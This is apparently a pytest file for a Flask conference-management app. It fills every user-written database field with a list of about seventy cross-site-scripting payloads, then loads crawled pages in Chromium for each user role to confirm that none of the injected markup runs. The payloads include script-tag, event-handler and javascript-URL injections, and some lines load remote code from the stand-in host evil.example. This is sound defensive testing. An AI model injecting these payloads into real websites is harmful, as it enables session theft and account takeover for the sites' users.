"""Markup in every text of the database, then every page as every role in Chromium: no script runs, nothing is built."""

import threading
from collections import defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from lxml import html
from playwright.sync_api import Browser, BrowserContext, Page, Route
from sqlalchemy import String, Text, select
from werkzeug.serving import BaseWSGIServer, make_server

from confapp import create_app
from confapp.foundation.db import Choice, Data, Translated, db
from confapp.people.rules import Role
from tests.access import world
from tests.access.pages import Site, crawl, kind_of
from tests.access.world import World
from tests.build import Client
from tests.conftest import give_schema, settings_in

MARK = "window.pwned=1"
PAYLOADS = [
    f"<script>{MARK}</script>",
    f"</script><script>{MARK}</script>",
    f'"><script>{MARK}</script>',
    f"'><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"</style><script>{MARK}</script>",
    f"--><script>{MARK}</script>",
    f"]]><script>{MARK}</script>",
    f"<ScRiPt>{MARK}</sCrIpT>",
    f"<script\n>{MARK}</script>",
    f"<script/x>{MARK}</script>",
    f"<<script>{MARK}//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:,window.pwned=1></script>",
    f"<img src=x onerror={MARK}>",
    f'<img src=x onerror="{MARK}">',
    f"<img src='x' onerror='{MARK}'>",
    f'"><img src=x onerror={MARK}>',
    f"'><img src=x onerror={MARK}>",
    f"<img/src=x/onerror={MARK}>",
    f"<img src=x:x onerror={MARK}//",
    f"<img src onerror={MARK}>",
    f"<svg onload={MARK}>",
    f"<svg/onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{MARK}><text y=20>x</text></a>",
    f"<math><mi xlink:href=javascript:{MARK}>x</mi></math>",
    f"<body onload={MARK}>",
    f"<input autofocus onfocus={MARK}>",
    f'" autofocus onfocus={MARK} x="',
    f"' autofocus onfocus={MARK} x='",
    f"` autofocus onfocus={MARK} x=`",
    f'" onmouseover={MARK} "',
    f"<select autofocus onfocus={MARK}>",
    f"<textarea autofocus onfocus={MARK}>",
    f"<keygen autofocus onfocus={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<video src=x onerror={MARK}>",
    f"<audio src=x onerror={MARK}>",
    f"<details open ontoggle={MARK}>x</details>",
    f"<marquee onstart={MARK}>x</marquee>",
    f"<div onpointerover={MARK}>x</div>",
    f"<p style=animation-name:x onanimationstart={MARK}>",
    f"<iframe src=javascript:{MARK}></iframe>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>">',
    f"<object data=javascript:{MARK}></object>",
    f"<embed src=javascript:{MARK}>",
    "<object data=data:text/html,x></object>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    f"<a href=javascript:{MARK}>x</a>",
    f"[x](javascript:{MARK})",
    f"[x](JaVaScRiPt:{MARK})",
    f"[x](data:text/html,<script>{MARK}</script>)",
    f"![x](x onerror={MARK})",
    f"<form action=javascript:{MARK}><button>x</button></form>",
    f"<button formaction=javascript:{MARK}>x</button>",
    f"<template><script>{MARK}</script></template>",
    "{{ constructor.constructor('window.pwned=1')() }}",
    "${window.pwned=1}",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
]
# Words by which the program finds its way: a code, an address to sign in with, a colour.
LEFT_ALONE = {"account", "sign_in", "mailed_link", "job", "stored_file", "form_key", "attempts", "alembic_version"}
KEYS = {
    *("code", "slug", "zone", "accent", "language", "languages", "original_language", "authentic_languages"),
    *("name_key", "symbol", "number", "media_type", "query", "list_name", "public_version", "number_form", "kind"),
    *("import_key", "country", "contact_email"),
}
FOUND_BY_NAME = {"conference_page.name", "publication.format"}
LOOK = """() => {
  const foreign = document.querySelectorAll(
    "[onerror],[onload],[onfocus],[ontoggle],[onmouseover],[onstart],[onbegin],[onanimationstart],[onpointerover]," +
    "iframe,object,embed,base,meta[http-equiv=refresh],marquee,math,script:not([src]):not([type])," +
    "a[href^='javascript:' i]");
  return { pwned: window.pwned === 1, foreign: [...foreign].slice(0, 3).map(e => e.outerHTML.slice(0, 120)) };
}"""
WHO: dict[str, Role | None] = {
    "a stranger": None,
    "the organizer": Role.ORGANIZER,
    "an accreditation officer": Role.ACCREDITATION_OFFICER,
    "a protocol officer": Role.PROTOCOL_OFFICER,
    "a programme officer": Role.PROGRAMME_OFFICER,
    "a focal point": Role.FOCAL_POINT,
    "a delegate": Role.DELEGATE,
}


@dataclass
class Poisoned:
    app: Flask
    address: str
    clients: dict[str, Any]


def signed_in(app: Flask, alpha: World, role: Role | None) -> Any:
    client: Any = app.test_client()
    return client if role is None else client.sign_in(alpha.holders[role])


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Poisoned]:
    """A running site in whose database every text is markup."""
    folder: Path = tmp_path_factory.mktemp("poisoned")
    server = make_server("localhost", 0, lambda *_: iter([b""]), threaded=True)
    address = f"http://localhost:{server.server_port}"
    app = create_app(settings_in(folder, base_url=address))
    app.config |= {"WTF_CSRF_ENABLED": False}
    app.test_client_class = Client
    give_schema(app)
    with app.app_context():
        alpha = world.make(app, "ALPHA7", "alpha-2027")
        clients = {who: signed_in(app, alpha, role) for who, role in WHO.items()}
        poison()
    serving = threading.Thread(target=_serve, args=(server, app), daemon=True)
    serving.start()
    yield Poisoned(app, address, clients)
    server.shutdown()


def _serve(server: BaseWSGIServer, app: Flask) -> None:
    server.app = app
    server.serve_forever()


def poison() -> int:
    """Every cell of text that people write holds one of the payloads, all of them in turn; returns how many."""
    payloads, cells = cycle(PAYLOADS), 0
    with db.engine.begin() as connection:
        for table in db.metadata.sorted_tables:
            if table.name in LEFT_ALONE or table.name.startswith("audit"):
                continue
            columns = [c for c in table.columns if is_written(c)]
            for row in connection.execute(select(table)).mappings() if columns else ():
                values = {c.name: _one(c, payloads) for c in columns if row[c.name]}
                cells += len(values)
                if values:
                    same = [k == row[k.name] for k in table.primary_key.columns]
                    connection.execute(table.update().where(*same).values(values))
    return cells


def is_written(column: Any) -> bool:
    if column.name in KEYS or f"{column.table.name}.{column.name}" in FOUND_BY_NAME or column.foreign_keys:
        return False
    is_text = isinstance(column.type, String | Text | Translated) and not isinstance(column.type, Choice)
    is_typed = column.info.get("data") in (Data.CONTENT, Data.PERSONAL) or column.name in ("acting_name", "reason")
    return is_text and is_typed and not column.unique


def _one(column: Any, payloads: Iterator[str]) -> Any:
    if isinstance(column.type, Translated):
        return {"en": f"text {next(payloads)}", "id": f"teks {next(payloads)}"}
    return f"text {next(payloads)}"


def test_no_stored_markup_runs(poisoned: Poisoned, browser: Browser) -> None:
    """One role after another; a page without an element that nobody has seen on its like is not opened again."""
    seen: defaultdict[str, set[Any]] = defaultdict(set)
    for who in WHO:
        _look_as(who, poisoned, browser, seen)
    assert len(seen) > 50


def _look_as(who: str, poisoned: Poisoned, browser: Browser, seen: dict[str, set[Any]]) -> None:
    app, client, slug = poisoned.app, poisoned.clients[who], "alpha-2027"
    with app.app_context():
        starts = ["/", f"/{slug}/", f"/desk/{slug}/", f"/me/{slug}/", "/me/", f"/{slug}/register"]
        site = crawl(client, starts, 250, kind_of(app))
    assert len(site.pages) > 10
    assert site.with_status(500) == []
    pages = dict(fresh(kind_of(app), site, seen))
    context = browser.new_context(java_script_enabled=True)
    try:
        assert list(visit(context, poisoned.address, pages)) == [], who
    finally:
        context.close()


def fresh(kind: Callable[[str], str], site: Site, seen: dict[str, set[Any]]) -> Iterator[tuple[str, str]]:
    """Pages that nobody saw before: of another view, or built of other elements."""
    for url, (status, text) in site.pages.items():
        if status == 200 and text.startswith("<!doctype html"):
            made_of = {(e.tag, e.get("class", "")) for e in html.fromstring(text).iter() if isinstance(e.tag, str)}
            like = kind(url).partition("?")[0]
            if not made_of <= seen[like]:
                seen[like] |= made_of
                yield url, text


def visit(context: BrowserContext, address: str, pages: dict[str, str]) -> Iterator[str]:
    """Opens pages as they were answered, but without the policy that would stop a script: markup alone must not run."""
    page: Page = context.new_page()
    said: list[str] = []
    page.on("dialog", lambda dialog: (said.append(f"dialog {dialog.message}"), dialog.dismiss()))
    by_address = {address + url: text for url, text in pages.items()}

    def answer(route: Route) -> None:
        asked = route.request
        if asked.resource_type == "document" and asked.url in by_address:
            route.fulfill(body=by_address[asked.url], content_type="text/html; charset=utf-8")
        elif asked.resource_type == "script" and asked.url.startswith(address):
            route.continue_()
        else:
            route.abort()

    page.route("**/*", answer)
    for url in pages:
        page.goto(address + url, wait_until="load")
        found = page.evaluate(LOOK)
        if found["pwned"] or found["foreign"] or said:
            yield f"{url}: {found} {said}"
        said.clear()


def test_a_script_that_got_through_is_seen(poisoned: Poisoned, browser: Browser) -> None:
    context = browser.new_context()
    page = f"<!doctype html><title>x</title><p>{{}}</p><script src={poisoned.address}/none.js></script>"
    pages = {
        f"/{number}": page.format(payload)
        for number, payload in enumerate((PAYLOADS[0], f"<img src=x onerror={MARK}>"))
    }
    assert len(list(visit(context, poisoned.address, pages))) == len(pages)
    assert list(visit(context, poisoned.address, {"/clean": page.format("clean")})) == []
    context.close()


def test_there_are_about_sixty_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60
